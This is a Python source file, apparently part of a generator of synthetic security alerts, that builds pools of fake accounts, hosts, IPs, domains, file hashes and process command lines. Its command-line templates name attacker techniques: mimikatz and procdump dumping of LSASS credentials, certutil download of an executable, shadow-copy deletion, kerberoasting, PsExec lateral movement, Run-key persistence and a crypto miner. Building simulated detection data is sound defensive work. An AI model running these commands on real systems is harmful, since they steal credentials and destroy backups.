    r"C:\Users\Public", r"C:\Windows\Temp", r"C:\Users\{user}\AppData\Roaming\Microsoft",
)  # fmt: skip
COMMAND_LINES = (
    "powershell.exe -nop -w hidden -enc {b64}",
    "powershell.exe -ExecutionPolicy Bypass -File C:\\ProgramData\\{word}.ps1",
    "rundll32.exe C:\\ProgramData\\{word}.dll,DllRegisterServer",
    "cmd.exe /c whoami /all > C:\\Users\\Public\\{word}.txt",
    'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
    "wmic.exe /node:{host} process call create \"cmd.exe /c {word}.bat\"",
    "certutil.exe -urlcache -split -f http://{domain}/{word}.exe C:\\Windows\\Temp\\{word}.exe",
    'schtasks.exe /create /tn "{word}Update" /tr C:\\ProgramData\\{word}.exe /sc minute /mo 30',
    "vssadmin.exe delete shadows /all /quiet",
    "net.exe group \"Domain Admins\" /domain",
    "nltest.exe /domain_trusts /all_trusts",
    "PsExec64.exe \\\\{host} -s -d C:\\Windows\\Temp\\{word}.exe",
    "reg.exe add HKCU\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v {word} /d {word}.exe",
    "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\{word}.dmp",
    "xmrig.exe -o stratum+tcp://{domain}:3333 -u {word}",
    "AnyDesk.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent",
    "Rubeus.exe kerberoast /outfile:C:\\Users\\Public\\{word}.txt",
)  # fmt: skip
AZURE_RESOURCES = (
    "Microsoft.Compute/virtualMachines/vm-{word}-{n:02d}",
    "Microsoft.Storage/storageAccounts/st{word}{n:02d}",
    "Microsoft.KeyVault/vaults/kv-{word}-{n:02d}",
    "Microsoft.Sql/servers/sql-{word}-{n:02d}",
    "Microsoft.Web/sites/app-{word}-{n:02d}",
)
AZURE_WORDS = ("web", "api", "data", "prod", "payroll", "crm", "erp", "build", "shared", "edge")
DOMAIN = "contoso.com"
SUBSCRIPTION = "6b1ad9b4-0c4b-4c39-8a5c-2b87c1f0e4d7"

# Share of the pool per kind; fixed lists (applications, registry keys, malware) add theirs.
POOL_SHARES = {
    A.ACCOUNT: 0.15,
    A.HOST: 0.16,
    A.IP: 0.24,
    A.URL: 0.09,
    A.DNS: 0.06,
    A.FILEHASH: 0.1,
    A.FILE: 0.06,
    A.PROCESS: 0.1,
    A.AZURE_RESOURCE: 0.04,
}
# How steeply popularity falls with rank: the top hosts and accounts appear in many alerts.
POPULARITY = {A.HOST: 1.0, A.ACCOUNT: 0.9, A.MAILBOX: 0.9, A.IP: 0.8}
DEFAULT_POPULARITY = 1.0


@dataclass(frozen=True)
class PoolEntity:
    kind: EntityKind
    identifier: str
    display_name: str
    properties: dict


def _people(rng: random.Random, count: int) -> list[tuple[str, str]]:
    """`count` distinct (user name, display name) pairs, a few service and admin accounts."""
    people: dict[str, str] = {}
    while len(people) < count:
        first, last = rng.choice(FIRST_NAMES), rng.choice(LAST_NAMES)
        display, user = f"{first.title()} {last.title()}", f"{first}.{last.replace(' ', '')}"
        roll = rng.random()
        if roll < 0.04:
            user = display = f"svc-{rng.choice(AZURE_WORDS)}{rng.randint(1, 99)}"
        elif roll < 0.08:
            user, display = f"adm-{first[0]}{last.replace(' ', '')}", f"{display} (admin)"
        elif user in people:
            user += str(rng.randint(2, 999))
        people.setdefault(user, display)
    return list(people.items())


def _ip(rng: random.Random, internal: bool) -> tuple[str, dict]:
    if internal:
        return f"10.{rng.randint(0, 40)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}", {}
    while True:
        first = rng.randint(1, 223)
        # Outside 0/8, 10/8, 127/8, 100.64/10 and 172/8 or 192/8's private blocks.
        if first not in (10, 100, 127, 169, 172, 192):
            break
    country, city = rng.choice(COUNTRIES)
    address = f"{first}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
    return address, {"Location": {"CountryCode": country, "City": city}}


def _domain(rng: random.Random) -> str:
    a, b = rng.sample(LOOKALIKE_WORDS, 2)
    return f"{a}-{b}{rng.randint(0, 99) if rng.random() < 0.4 else ''}.{rng.choice(TLDS)}"


def _token(rng: random.Random, length: int) -> str:
    return "".join(rng.choices(string.ascii_letters + string.digits, k=length))


def _make(
    kind: EntityKind, rng: random.Random, people: list[tuple[str, str]], hosts: list[str]
) -> tuple[str, str, dict]:
    """A raw (identifier, display name, properties) for one entity of `kind`."""
    if kind == A.HOST:
        if rng.random() < 0.2:
            name = f"SRV-{rng.choice(SERVER_ROLES)}-{rng.randint(1, 40):02d}"
        else:
            name = f"WS-{rng.choice(DEPARTMENTS)}-{rng.randint(1, 9999):04d}"
        os_family = "Linux" if name.startswith("SRV-WEB") else "Windows"
        fqdn = f"{name}.corp.{DOMAIN}"
        return fqdn, name, {"HostName": name, "DnsDomain": f"corp.{DOMAIN}", "OSFamily": os_family}
    if kind == A.IP:
        address, props = _ip(rng, internal=rng.random() < 0.35)
        return address, address, {"Address": address, **props}
    if kind == A.URL:
        url = f"https://{_domain(rng)}/{rng.choice(LOOKALIKE_WORDS)}/{_token(rng, 10)}"
        return url, url, {"Url": url}
    if kind == A.DNS:
        name = f"{_token(rng, rng.randint(8, 16)).lower()}.{_domain(rng)}"
        return name, name, {"DomainName": name}
    if kind == A.FILEHASH:
        value = f"{rng.getrandbits(256):064x}"
        return value, value, {"Algorithm": "SHA256", "Value": value}
    if kind == A.FILE:
        user = rng.choice(people)[0]
        name = rng.choice(FILE_NAMES).format(n=rng.randint(100, 99999), q=rng.randint(1, 4))
        directory = rng.choice(FILE_DIRECTORIES).format(user=user)
        return f"{directory}\\{name}", name, {"Name": name, "Directory": directory}
    if kind == A.PROCESS:
        line = rng.choice(COMMAND_LINES).format(
            b64=_token(rng, 40),
            word=rng.choice(LOOKALIKE_WORDS) + str(rng.randint(1, 999)),
            host=rng.choice(hosts),
            domain=_domain(rng),
        )
        pid = rng.randint(400, 65000)
        return line, line, {"CommandLine": line, "ProcessId": str(pid)}
    if kind == A.AZURE_RESOURCE:
        resource = rng.choice(AZURE_RESOURCES).format(
            word=rng.choice(AZURE_WORDS), n=rng.randint(1, 30)
        )
        group = f"rg-{rng.choice(AZURE_WORDS)}"
        resource_id = f"/subscriptions/{SUBSCRIPTION}/resourceGroups/{group}/providers/{resource}"
        return resource_id, resource.rsplit("/", 1)[1], {"ResourceId": resource_id}
    raise ValueError(kind)


def entity_pool(rng: random.Random, size: int) -> dict[EntityKind, list[PoolEntity]]:
    """About `size` distinct entities by kind, identifiers normalized, most popular first.

    Accounts and mailboxes are the same people at the same rank, so an alert's account
    and mailbox are one person.
    """
    pool: dict[EntityKind, list[PoolEntity]] = {}
    people = _people(rng, max(10, int(size * POOL_SHARES[A.ACCOUNT])))
    pool[A.ACCOUNT] = [
        PoolEntity(
            A.ACCOUNT,
            normalize_identifier(A.ACCOUNT, f"{user}@{DOMAIN}"),
            display,
            {"Name": user, "UPNSuffix": DOMAIN, "DisplayName": display},
        )
        for user, display in people
    ]
    pool[A.MAILBOX] = [
        PoolEntity(
            A.MAILBOX,
            normalize_identifier(A.MAILBOX, f"{user}@{DOMAIN}"),
            f"{user}@{DOMAIN}",
            {"MailboxPrimaryAddress": f"{user}@{DOMAIN}", "DisplayName": display},
        )
        for user, display in people
    ]
    hosts: list[str] = []
    for kind, share in POOL_SHARES.items():
        if kind == A.ACCOUNT:
            continue
        wanted = max(10, int(size * share))
        entities: dict[str, PoolEntity] = {}
        for _ in range(wanted * 3):
            if len(entities) == wanted:
                break
            raw, display, properties = _make(kind, rng, people, hosts or ["SRV-DC-01"])
            identifier = normalize_identifier(kind, raw)
            entities.setdefault(identifier, PoolEntity(kind, identifier, display, properties))
        pool[kind] = list(entities.values())
        if kind == A.HOST:
            hosts = [e.display_name for e in pool[kind]]
    pool[A.CLOUD_APPLICATION] = _named(A.CLOUD_APPLICATION, CLOUD_APPLICATIONS, "Name")
    pool[A.REGISTRY_KEY] = _named(A.REGISTRY_KEY, REGISTRY_KEYS, "Key")
    pool[A.MALWARE] = _named(A.MALWARE, MALWARE, "Name")
    return pool


def _named(kind: EntityKind, names: tuple[str, ...], prop: str) -> list[PoolEntity]:
    return [PoolEntity(kind, normalize_identifier(kind, n), n, {prop: n}) for n in names]


def popularity(kind: EntityKind, count: int) -> list[float]:
    """Cumulative Zipf weights for ranks 0..count-1 (for `bisect`)."""
    exponent = POPULARITY.get(kind, DEFAULT_POPULARITY)
    total, cumulative = 0.0, []
    for rank in range(1, count + 1):
        total += rank**-exponent
        cumulative.append(total)
    return cumulative


def describe(detection: Detection, names: dict[str, str]) -> str:
    """The alert's description with its entities' names filled in."""
    return detection.description.format_map(names)
